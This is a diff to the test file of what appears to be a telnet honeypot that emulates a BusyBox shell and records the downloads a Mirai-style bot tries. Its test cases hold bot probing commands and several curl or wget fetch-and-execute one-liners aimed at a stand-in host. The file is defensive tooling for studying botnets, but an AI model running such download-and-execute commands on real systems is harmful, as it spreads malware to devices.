@@ -95,13 +95,19 @@ def test_mirai_is_shown_what_it_looks_for() -> None:
     ]
 
 
+BANNER = (
+    b"\n\nBusyBox v1.20.2 (2016-07-22 16:33:01 CST) built-in shell (ash)\n"
+    b"Enter 'help' for a list of built-in commands.\n\n"
+)
+
+
 def test_the_dialogue_of_a_telnet_bot() -> None:
     shell = start()
     for line, output in (
-        (b"enable", b""),
-        (b"system", b""),
-        (b"shell", b""),
-        (b"sh", b""),
+        (b"enable", b"-sh: enable: not found\n"),
+        (b"system", b"-sh: system: not found\n"),
+        (b"shell", b"-sh: shell: not found\n"),
+        (b"linuxshell", b"-sh: linuxshell: not found\n"),
         (b"/bin/busybox MIRAI", b"MIRAI: applet not found\n"),
         (b"rm missing", b"rm: can't remove 'missing': No such file or directory\n"),
         (b">/proc/x", b"-sh: can't create /proc/x: nonexistent directory\n"),
@@ -110,6 +116,10 @@ def test_the_dialogue_of_a_telnet_bot() -> None:
         (b">/tmp/.d && cd /tmp && pwd", b"/tmp\n"),
         (b"ls -a /tmp", b".   ..  .d\n"),
         (b"nosuch", b"-sh: nosuch: not found\n"),
+        (b"sh", BANNER),
+        (b"nosuch", b"sh: nosuch: not found\n"),
+        (b"/bin/busybox sh", BANNER),
+        (b"/ip cloud print", b"sh: /ip: not found\n"),
     ):
         assert shell.run(line).output == output
 
@@ -260,12 +270,35 @@ done
     ],
 )
 def test_a_script_that_was_fetched_is_followed(line: str) -> None:
-    shell = start()
+    shell = start("server-x86_64" if "bash" in line else "camera-armv7l")
     assert urls(shell.run(line.encode())) == ["http://192.0.2.1/a.sh"]
     reply = shell.deliver("http://192.0.2.1/a.sh", SCRIPT)
     assert urls(reply) == [f"http://192.0.2.1/bins/x.{name}" for name in ("arm7", "mips", "x86")]
     assert {effect.depth for effect in only(reply, Offer)} == {1}
     assert {effect.url for effect in only(reply, Executed) if effect.data is None} == set(urls(reply))
+
+
+@pytest.mark.parametrize(
+    ("line", "output"),
+    [
+        ("bash <(curl -s http://192.0.2.1/a.sh)", b'-sh: syntax error: unexpected "("\n'),
+        ("curl -s http://192.0.2.1/a.sh | bash -s x", b"-sh: bash: not found\n"),
+        ("bash -c 'wget http://192.0.2.1/a.sh; bash a.sh'", b"-sh: bash: not found\n"),
+        ("wget -q http://192.0.2.1/a.sh; bash a.sh", b"-sh: bash: not found\n"),
+        ("a=(http://192.0.2.1/a.sh); wget -O- ${a[0]} | sh", b'-sh: syntax error: unexpected "("\n'),
+        (
+            "curl -s http://192.0.2.1/a.sh -o- | python3 - <<< x",
+            b"-sh: syntax error: unexpected redirection\n",
+        ),
+    ],
+)
+def test_what_a_device_refuses_is_offered_all_the_same(line: str, output: bytes) -> None:
+    shell = start()
+    reply = shell.run(line.encode())
+    assert (reply.output, urls(reply)) == (output, ["http://192.0.2.1/a.sh"])
+    assert not shell.machine.fs.exists("/root/a.sh") or "wget -q" in line
+    followed = urls(shell.deliver("http://192.0.2.1/a.sh", SCRIPT))
+    assert len(followed) == (0 if "python" in line else 3)
 
 
 def test_an_archive_that_was_fetched_is_taken_apart_and_followed() -> None:
@@ -297,7 +330,7 @@ def test_a_program_for_another_processor_does_not_start() -> None:
     head = shell.run(b"head -c 52 /bin/busybox").output
     shell.deliver("http://192.0.2.1/a", b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x28\x00" + bytes(32))
     shell.deliver("http://192.0.2.1/m", head)
-    assert shell.run(b"/tmp/a").output == b'/tmp/a: line 1: syntax error: unexpected "("\n'
+    assert b"/tmp/a: line 1: " in shell.run(b"/tmp/a").output
     assert shell.run(b"/tmp/m").output == b""
 
 
